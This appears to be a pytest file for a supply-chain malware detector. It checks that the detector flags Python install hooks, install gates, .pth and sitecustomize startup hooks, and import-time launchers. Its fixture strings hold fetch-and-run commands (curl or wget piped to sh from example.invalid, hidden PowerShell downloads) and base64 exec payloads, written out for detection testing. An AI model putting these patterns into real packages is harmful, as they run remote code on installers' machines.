"""Execution-stage detectors: install hooks, install gates, start-up hooks, import-time runs."""

from __future__ import annotations

from tests.conftest import pairs, run_engine
from triage.indicators.engine import EngineResult

HOOK = "code_execution_install_hook_override"
RUNTIME = "code_execution_runtime"


def confs(result: EngineResult, indicator: str) -> dict[int, float]:
    """{start line: confidence} of one indicator's signals."""
    out: dict[int, float] = {}
    for s in result.signals:
        if s.indicator == indicator:
            path = s.statement_id.rsplit(":", 2)[0]
            line = s.start_line or result.indices[path].get(s.statement_id).start_line
            out[line] = max(out.get(line, 0.0), s.confidence)
    return out


MALICIOUS_HOOK = """\
    from setuptools import setup
    from setuptools.command.install import install as _install
    import os

    class PostInstall(_install):
        def run(self):
            os.system("curl -s https://example.invalid/i.sh | sh")
            _install.run(self)

    setup(
        name="demo",
        cmdclass={
            "install": PostInstall,
        },
    )
"""


def test_malicious_install_hook_marks_class_method_body_and_cmdclass() -> None:
    r = run_engine({"p/setup.py": MALICIOUS_HOOK})
    assert pairs(r, HOOK) == {(HOOK, 5), (HOOK, 6), (HOOK, 7), (HOOK, 8), (HOOK, 12), (HOOK, 13)}
    c = confs(r, HOOK)
    # `install as _install` hides the hook from the phase index, so the body's own signals
    # are judged as call-time code (0.7) rather than install-time code (0.85)
    assert min(c[5], c[6], c[7], c[8]) >= 0.7
    assert c[12] < 0.5 and c[13] < 0.5  # the dev labels never mark cmdclass lines
    # the os.system runs inside the hook, not from module level
    assert pairs(r, RUNTIME) == set()


def test_hook_calling_a_local_function_marks_the_call() -> None:
    src = """\
        from setuptools import setup
        from setuptools.command.develop import develop
        import os
        def execute():
            os.system("start payload.exe")
        class PostDevelop(develop):
            def run(self):
                execute()
                develop.run(self)
        setup(name="demo", cmdclass={"develop": PostDevelop})
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, HOOK) == {(HOOK, 6), (HOOK, 7), (HOOK, 8), (HOOK, 9), (HOOK, 10)}
    assert confs(r, HOOK)[8] >= 0.8


def test_benign_build_ext_override_stays_low() -> None:
    src = """\
        from setuptools import setup
        from setuptools.command.build_ext import build_ext
        class BuildExt(build_ext):
            def run(self):
                self.announce("building")
                super().run()
        setup(name="demo", cmdclass={"build_ext": BuildExt})
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, HOOK) == {(HOOK, 3), (HOOK, 4), (HOOK, 6), (HOOK, 7)}
    assert max(confs(r, HOOK).values()) < 0.3


def test_install_gate_and_the_block_it_guards() -> None:
    src = """\
        import os, sys
        if "install" in sys.argv:
            os.system("wget https://example.invalid/x -O /tmp/x && sh /tmp/x")
        if len(sys.argv) > 1 and sys.argv[1] == "develop":
            print("developing")
    """
    r = run_engine({"p/setup.py": src})
    gate = "code_execution_install"
    assert pairs(r, gate) == {(gate, 2), (gate, 3), (gate, 4)}
    c = confs(r, gate)
    assert c[2] >= 0.8 and c[4] < 0.3


def test_pth_startup_hooks() -> None:
    r = run_engine({
        "p/evil.pth": "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
        "p/paths.pth": "/opt/lib/site\n",
        "p/venv.pth": "import _virtualenv\n",
        "p/plain.pth": "import mypkg_hook\n",
    })
    hook = "code_execution_startup_hook"
    assert pairs(r, hook, file="p/evil.pth") == {(hook, 1)}
    assert pairs(r, hook, file="p/paths.pth") == set()
    by_file = {s.statement_id.split(":")[0]: s.confidence for s in r.signals
               if s.indicator == hook}
    assert by_file["p/evil.pth"] >= 0.9
    assert by_file["p/venv.pth"] <= 0.2
    assert 0.3 <= by_file["p/plain.pth"] < 0.5


def test_sitecustomize_and_writing_a_pth_file() -> None:
    r = run_engine({
        "p/sitecustomize.py": """\
            import os
            os.system("curl https://example.invalid/c | sh")
        """,
        "p/pkg/__init__.py": """\
            import site, os
            path = os.path.join(site.getsitepackages()[0], "zz_hook.pth")
            with open(path, "w") as f:
                f.write("import pkg.payload")
        """,
    })
    hook = "code_execution_startup_hook"
    assert pairs(r, hook) == {(hook, 2), (hook, 3)}
    assert pairs(r, hook, file="p/sitecustomize.py") == {(hook, 2)}


def test_runtime_marks_module_level_launchers_only() -> None:
    src = """\
        import os, subprocess
        def grab():
            os.system("curl -s https://example.invalid/a | sh")
        def helper():
            return 1
        subprocess.Popen("powershell -w hidden -c iwr https://example.invalid/b", shell=True)
        grab()
        VALUE = helper()
        if __name__ == "__main__":
            grab()
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert pairs(r, RUNTIME) == {(RUNTIME, 6), (RUNTIME, 7)}
    assert min(confs(r, RUNTIME).values()) >= 0.8


def test_runtime_credits_a_decoded_payload_to_its_exec() -> None:
    src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='))\n"
    r = run_engine({"p/setup.py": src})
    assert (RUNTIME, 2) in pairs(r, RUNTIME, file="p/setup.py")


def test_benign_import_time_code_is_not_runtime() -> None:
    src = """\
        import os
        __all__ = ["a", "b"]
        HERE = os.path.dirname(os.path.abspath(__file__))
        def _version():
            with open(os.path.join(HERE, "VERSION")) as f:
                return f.read().strip()
        __version__ = _version()
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert pairs(r, RUNTIME) == set()


def test_install_gate_on_the_pip_process_tree() -> None:
    src = """\
        import os, psutil
        if "pip" in psutil.Process(os.getppid()).name():
            os.system("curl -s https://example.invalid/p | sh")
        if "pip" == os.environ.get("TOOL"):
            pass
    """
    r = run_engine({"p/pkg/__init__.py": src})
    gate = "code_execution_install"
    assert pairs(r, gate) == {(gate, 2), (gate, 3)}


def test_a_payload_that_is_only_decoded_does_not_make_a_launcher() -> None:
    payload = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2giKQo="
    src = f'import base64\ndata = base64.b64decode("{payload}")\nprint(len(data))\n'
    r = run_engine({"p/pkg/__init__.py": src})
    assert pairs(r, RUNTIME, file="p/pkg/__init__.py") == set()


LIBRARY_COMMAND = """\
    from distutils.command import install_lib as orig

    class install_lib(orig.install_lib):
        def run(self):
            self.build()
            orig.install_lib.run(self)
"""


def test_command_classes_setup_py_never_names_are_not_hooks() -> None:
    """setuptools' own command modules: in a wheel nothing runs at install time, and in an
    sdist only classes that setup.py names can be registered as commands."""
    assert pairs(run_engine({"setuptools/command/install_lib.py": LIBRARY_COMMAND}), HOOK) == set()
    setup = "from setuptools import setup\nsetup(name='x')\n"
    assert pairs(run_engine({"p/setup.py": setup, "p/cmds/install_lib.py": LIBRARY_COMMAND}),
                 HOOK) == set()
    named = ("from setuptools import setup\nfrom cmds.install_lib import install_lib\n"
             "setup(name='x', cmdclass={'install_lib': install_lib})\n")
    got = run_engine({"p/setup.py": named, "p/cmds/install_lib.py": LIBRARY_COMMAND})
    index = got.indices["p/cmds/install_lib.py"]
    assert {index.get(s.statement_id).start_line for s in got.signals
            if s.indicator == HOOK and s.statement_id.startswith("p/cmds/")} == {3, 4, 6}


def test_instantiating_a_class_reaches_its_constructor_only() -> None:
    """``Finder()`` at import time runs ``__init__``, not the methods something else may
    call later (setuptools' distutils meta-path finder)."""
    src = """\
        import importlib.util, os

        class Finder:
            def find_spec(self, name, path, target=None):
                os.system("curl -s https://example.invalid/x | sh")

        FINDER = Finder()
    """
    assert pairs(run_engine({"p/hack.py": src}), RUNTIME) == set()
    eager = src.replace("class Finder:\n", "class Finder:\n            def __init__(self):\n"
                        "                self.find_spec('x', None)\n\n")
    assert pairs(run_engine({"p/hack.py": eager}), RUNTIME) == {(RUNTIME, 10)}
    direct = src.replace("FINDER = Finder()", "FINDER = Finder().find_spec('x', None)")
    assert pairs(run_engine({"p/hack.py": direct}), RUNTIME) == {(RUNTIME, 7)}
